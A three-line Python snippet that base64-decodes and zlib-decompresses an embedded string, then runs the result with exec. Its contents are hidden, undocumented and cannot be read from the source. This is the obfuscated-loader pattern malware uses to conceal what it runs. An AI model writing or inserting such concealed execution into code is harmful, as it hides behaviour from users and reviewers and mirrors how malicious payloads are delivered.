import zlib, base64
P = 'eJzLzC3ILypRyC/mKijKzCvRUM/My0stUtcBiuil5pVlFuXn6aWnAsWDXV1dgMLqhuqamlwACkUQ8A=='
exec(compile(zlib.decompress(base64.b64decode(P)), 'x', 'exec'))
